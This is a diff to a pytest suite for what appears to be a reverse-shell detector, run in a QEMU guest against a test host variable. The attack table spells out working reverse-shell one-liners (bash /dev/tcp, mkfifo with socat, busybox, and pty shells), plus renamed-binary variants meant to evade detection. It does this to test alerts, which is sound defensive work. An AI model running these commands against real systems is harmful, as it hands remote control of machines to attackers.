@@ -5,6 +5,7 @@ import time
 import pytest
 
 from conftest import Service
+from guest import OUTSIDE, OUTSIDE_COMMAND, OUTSIDE_QUIET
 
 SLEEP = "500ms"
 
@@ -31,52 +32,59 @@ def run_case(guest, svc, setup, attack, cleanup, seconds=4):
     return since
 
 
+# the attacker: a program on another machine (guest.OUTSIDE, through QEMU's
+# user-mode network), listening quietly or sending the shell "sleep 60"
+EXT = f"{OUTSIDE}:{OUTSIDE_QUIET}"
+EXT_TCP = f"{OUTSIDE}/{OUTSIDE_QUIET}"
+EXT_CMD = f"{OUTSIDE}:{OUTSIDE_COMMAND}"
+# a local service: a listener in the guest itself
 LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"
-# a listener that sends the shell a command that runs another program
-LISTEN_CMD = "(echo 'sleep 60'; sleep 1000) | socat TCP-LISTEN:{port},reuseaddr -"
 
-# case: (setup, attack, the shell's process_name in the alert)
+# case: (setup, attack, the shell's process_name in the alert, processes in
+# the chain)
 ATTACKS = {
-    "bash /dev/tcp": (LISTEN.format(port=4444),
-                      "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", "bash"),
-    "mkfifo sh | socat": (LISTEN.format(port=4445),
+    "bash /dev/tcp": (None, f"bash -c 'exec bash -i >& /dev/tcp/{EXT_TCP} 0>&1'", "bash", 1),
+    "mkfifo sh | socat": (None,
                           "rm -f /tmp/rsp; mkfifo /tmp/rsp; "
-                          "sh -i </tmp/rsp 2>&1 | socat - TCP:127.0.0.1:4445 >/tmp/rsp", "sh"),
-    "unix relay": (LISTEN.format(port=4446) + " & socat UNIX-LISTEN:/tmp/rs.sock EXEC:'sh -i',stderr",
-                   "sleep 1; socat TCP:127.0.0.1:4446 UNIX-CONNECT:/tmp/rs.sock", "sh"),
-    "pty shell": (LISTEN.format(port=4447),
-                  "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:4447", "bash"),
+                          f"sh -i </tmp/rsp 2>&1 | socat - TCP:{EXT} >/tmp/rsp", "sh", 2),
+    "unix relay": ("socat UNIX-LISTEN:/tmp/rs.sock EXEC:'sh -i',stderr",
+                   f"sleep 1; socat TCP:{EXT} UNIX-CONNECT:/tmp/rs.sock", "sh", 3),
+    "pty shell": (None, f"socat exec:'bash -li',pty,stderr,setsid tcp:{EXT}", "bash", 2),
+    # through a proxy in the guest that goes out: a connection to this
+    # machine is followed to whoever holds its other end
+    "local proxy": ("socat TCP-LISTEN:4460,reuseaddr TCP:" + EXT,
+                    "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4460 0>&1'", "bash", 2),
     # a copy of bash under a harmless name: known by its content
-    "renamed bash": (LISTEN.format(port=4451),
+    "renamed bash": (None,
                      "cp /bin/bash /tmp/kworkr; "
-                     "/tmp/kworkr -c 'exec /tmp/kworkr -i >& /dev/tcp/127.0.0.1/4451 0>&1'",
-                     "kworkr"),
+                     f"/tmp/kworkr -c 'exec /tmp/kworkr -i >& /dev/tcp/{EXT_TCP} 0>&1'",
+                     "kworkr", 1),
     # bash that renames itself (as prctl(PR_SET_NAME) does) before it
     # connects: known by its executable, not its comm
-    "comm-renamed bash": (LISTEN.format(port=4452),
+    "comm-renamed bash": (None,
                           "bash -c 'printf kswapd1 >/proc/$$/comm; "
-                          "exec 0<>/dev/tcp/127.0.0.1/4452 1>&0 2>&0; "
-                          "while read -r l; do eval \"$l\"; done'", "kswapd1"),
+                          f"exec 0<>/dev/tcp/{EXT_TCP} 1>&0 2>&0; "
+                          "while read -r l; do eval \"$l\"; done'", "kswapd1", 1),
     # busybox's shell called as busybox: the process is named busybox
-    "busybox sh": (LISTEN.format(port=4453),
+    "busybox sh": (None,
                    "rm -f /tmp/rsb; mkfifo /tmp/rsb; "
-                   "busybox sh -i </tmp/rsb 2>&1 | socat - TCP:127.0.0.1:4453 >/tmp/rsb", "busybox"),
+                   f"busybox sh -i </tmp/rsb 2>&1 | socat - TCP:{EXT} >/tmp/rsb", "busybox", 2),
     # bash with a byte appended: neither its name nor its content is a
     # known shell's, but it starts the programs it is sent
-    "unknown interpreter": (LISTEN_CMD.format(port=4454),
+    "unknown interpreter": (None,
                             "cat /bin/bash >/tmp/kthreadd; echo >>/tmp/kthreadd; "
                             "chmod +x /tmp/kthreadd; "
-                            "/tmp/kthreadd -c 'exec /tmp/kthreadd >& /dev/tcp/127.0.0.1/4454 0>&1'",
-                            "kthreadd"),
+                            "/tmp/kthreadd -c 'exec /tmp/kthreadd >& "
+                            f"/dev/tcp/{OUTSIDE}/{OUTSIDE_COMMAND} 0>&1'",
+                            "kthreadd", 1),
 }
 
 CLEANUP = "rm -f /tmp/rsp /tmp/rsb /tmp/rs.sock /tmp/kworkr /tmp/kthreadd /tmp/nc.sh; true"
-PORTS = (4444, 4445, 4446, 4447, 4451, 4452, 4453, 4454)
 
 
 @pytest.mark.parametrize("case", list(ATTACKS))
 def test_reverse_shell(guest, svc, case):
-    setup, attack, shell = ATTACKS[case]
+    setup, attack, shell, nchain = ATTACKS[case]
     since = run_case(guest, svc, setup, attack, CLEANUP)
     found = svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))["Reverse Shell Detected"]
     m = found[0]
@@ -84,36 +92,45 @@ def test_reverse_shell(guest, svc, case):
     chain = m["activity_data"]["process_list"]
     assert chain[0]["process_details"]["process_name"] == shell
     assert "file_descriptor_list" in chain[0]["process_details"]
-    nets = [n for p in chain for n in p["process_details"]["network_connection_list"]]
-    assert any(n["network_connection_details"]["destination_port"] in PORTS
-               for n in nets), chain
+    assert len(chain) == nchain, [p["process_details"]["process_name"] for p in chain]
+    # the connection to the other machine is in the chain
+    nets = [n["network_connection_details"] for p in chain
+            for n in p["process_details"]["network_connection_list"]]
+    assert any(n["destination_ip_address"] == OUTSIDE and
+               n["destination_port"] in (OUTSIDE_QUIET, OUTSIDE_COMMAND) for n in nets), nets
     print(f"{case}: chain of {len(chain)} processes")
 
 
 LOOKALIKES = {
     "shell piping to a local program": (None, "sh -c 'sleep 100 | cat >/dev/null'"),
-    "socat relay TCP to a file": (LISTEN.format(port=4448),
-                                  "socat TCP:127.0.0.1:4448 OPEN:/tmp/relay.out,creat"),
+    "socat relay TCP to a file": (None, f"socat TCP:{EXT} OPEN:/tmp/relay.out,creat"),
     "interactive bash on the console": (None, "exec bash -i </dev/ttyS0 >/dev/ttyS0 2>&1"),
     "daemon serving its children": ("socat TCP-LISTEN:4449,reuseaddr,fork EXEC:'sh -c cat'",
                                     "sleep 100 | socat - TCP:127.0.0.1:4449"),
     # a one-shot listener serving a shell: a bind shell, not a reverse one
     "served shell, listener closed": ("socat TCP-LISTEN:4458,reuseaddr EXEC:'sh -i',stderr",
                                       "sleep 100 | socat - TCP:127.0.0.1:4458"),
-    "relay to cat": (LISTEN_CMD.format(port=4455), "socat TCP:127.0.0.1:4455 EXEC:cat"),
-    "relay to sleep": (LISTEN_CMD.format(port=4456), "socat TCP:127.0.0.1:4456 EXEC:'sleep 100'"),
+    "relay to cat": (None, f"socat TCP:{EXT_CMD} EXEC:cat"),
+    "relay to sleep": (None, f"socat TCP:{EXT_CMD} EXEC:'sleep 100'"),
     # a shell whose child dials out on the shell's own stdin and stdout (ssh,
     # curl run at a prompt): it shares the shell's ends, it is not behind them
-    "shell running a network client": (LISTEN.format(port=4459),
-                                       "sleep 100 | bash -c 'socat - TCP:127.0.0.1:4459; true' | cat"),
+    "shell running a network client": (None,
+                                       f"sleep 100 | bash -c 'socat - TCP:{EXT}; true' | cat"),
     "shell on a pty running a network client": (
-        LISTEN.format(port=4463),
-        "echo 'socat - TCP:127.0.0.1:4463; true' >/tmp/nc.sh; "
+        None,
+        f"echo 'socat - TCP:{EXT}; true' >/tmp/nc.sh; "
         "socat exec:'sh /tmp/nc.sh',pty,stderr,setsid exec:'sleep 100'"),
     # busybox under another name, running cat: busybox's content, not a shell applet
-    "relay to a renamed cat": (LISTEN_CMD.format(port=4457),
+    "relay to a renamed cat": (None,
                                "cp /bin/busybox /tmp/busybox-x; "
-                               "socat TCP:127.0.0.1:4457 EXEC:'/tmp/busybox-x cat'"),
+                               f"socat TCP:{EXT_CMD} EXEC:'/tmp/busybox-x cat'"),
+    # a shell on a local service (a web terminal, a notebook's terminal):
+    # nothing reaches it from another machine
+    "shell on a local service's pty": (LISTEN.format(port=4464),
+                                       "socat exec:'bash -li',pty,stderr,setsid "
+                                       "tcp:127.0.0.1:4464"),
+    "shell on a service at the guest's own address": (
+        LISTEN.format(port=4465), "bash -c 'exec bash -i >& /dev/tcp/192.0.2.10/4465 0>&1'"),
 }
 
 
